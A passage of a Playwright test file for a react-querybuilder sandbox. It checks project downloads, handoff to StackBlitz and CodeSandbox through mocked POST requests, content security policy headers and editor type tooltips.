  test('downloads the code as a project', async ({ page }) => {
    const download = async (template: string): Promise<(name: string) => string> => {
      await openSandbox(page, `/sandbox?t=${template}`);
      await page.getByRole('button', { name: 'Take it elsewhere' }).click();
      const [file] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download as a Vite project' }).click(),
      ]);
      const files = unzipSync(readFileSync(await file.path()));
      return name => strFromU8(files[`react-querybuilder-sandbox/${name}`] ?? new Uint8Array());
    };
    await test.step('with the adapter of npm', async () => {
      const text = await download('antd');
      expect(JSON.parse(text('package.json'))).toMatchObject({
        dependencies: { antd: '6.6.8', 'react-querybuilder': '^8', react: '19.3.1' },
      });
      expect(text('src/main.tsx')).toContain('<QueryBuilderAntD>');
      expect(text('src/App.tsx')).toContain('export default function App');
      expect(text('index.html')).toContain('/src/main.tsx');
    });
    await test.step('with the source of an adapter that is not on npm', async () => {
      const text = await download('tremor');
      const adapter = '@react-querybuilder/tremor';
      const manifest = JSON.parse(text('package.json')) as Record<string, Record<string, string>>;
      expect(manifest.dependencies).not.toHaveProperty([adapter]);
      expect(manifest.devDependencies).toHaveProperty('tailwindcss');
      expect(text('src/main.tsx')).toContain(adapter);
      expect(text('vite.config.ts')).toContain(`'${adapter}': fileURLToPath`);
      expect(text('src/adapter/tremor/index.ts')).toContain('QueryBuilderTremor');
      expect(text('src/kit.css')).toContain('@tailwind');
    });
  });

  test('opens another site on a click when the address asks for it', async ({
    page,
    context,
    watch,
  }) => {
    watch.allow(/^request to another host/);
    for (const [platform, name, host] of [
      ['platform=stackblitz', 'StackBlitz', 'stackblitz.com'],
      ['p=sb', 'StackBlitz', 'stackblitz.com'],
      ['p=csb', 'CodeSandbox', 'codesandbox.io'],
    ] as const) {
      await test.step(`opens ${name} for ${platform}`, async () => {
        const posts: string[] = [];
        await context.route(`https://${host}/**`, route => {
          posts.push(`${route.request().method()} ${route.request().postData() ?? ''}`);
          return route.fulfill({ body: 'there', contentType: 'text/html' });
        });
        await openSandbox(page, `/sandbox?t=basic-ts&${platform}`);
        await expect(page.getByText(`The address asks for ${name}`)).toBeVisible();
        const [menu] = await page
          .getByRole('button', { name: 'Take it elsewhere' })
          .evaluateAll(all => all.map(button => button.getAttribute('aria-controls')));
        const buttons = page.locator(`[id="${menu ?? ''}"]`).getByRole('button');
        await expect(buttons.first()).toHaveText(`Open in ${name}`);
        await expect(buttons).toHaveCount(3);
        expect(posts).toEqual([]);
        const [opened] = await Promise.all([
          context.waitForEvent('page'),
          page.getByRole('button', { name: `Open in ${name}` }).click(),
        ]);
        await expect.poll(() => posts.length).toBe(1);
        expect(posts[0]).toMatch(/^POST /);
        expect(posts[0]?.length).toBeGreaterThan(500);
        await opened.close();
        await context.unrouteAll();
      });
    }
  });
});

test('works under the content security policy of the host, and shows types', async ({ page }) => {
  test.slow();
  const policies = new Map<string, string>();
  page.on('response', response => {
    const { pathname } = new URL(response.url());
    const policy = response.headers()['content-security-policy'];
    if (policy !== undefined) policies.set(pathname, policy);
  });
  // A violation is an error in the console, on which every test fails.
  await openSandbox(page, '/sandbox?t=basic-ts');
  await expectPhase(page, 'rendered');
  await page.locator('.cm-content').click();
  await expect(page.locator('[data-types="on"]')).toHaveCount(1, { timeout: 60_000 });
  await test.step('shows the type of what the pointer is on', async () => {
    const { x, y, height } = (await page
      .locator('.cm-line', { hasText: 'const fields' })
      .boundingBox()) ?? { x: 0, y: 0, height: 0 };
    await expect(async () => {
      await page.mouse.move(0, 0);
      // Within the name, the second word of the line.
      await page.mouse.move(x + 80, y + height / 2);
      await expect(page.locator('.cm-tooltip-hover')).toContainText('const fields: (', {
        timeout: 2000,
      });
    }).toPass();
  });
  await page.getByRole('button', { name: 'Format' }).click();
  await run(page);
  await expectPhase(page, 'rendered');
  const [frame] = [...policies.keys()].filter(path => path.includes('/frame.'));
  expect(policies.get(frame ?? '')).toContain("default-src 'none'; script-src blob: 'sha256-");
  expect(policies.get('/sandbox')).toMatch(/script-src 'self'( 'sha256-[^']+')+;/);
});
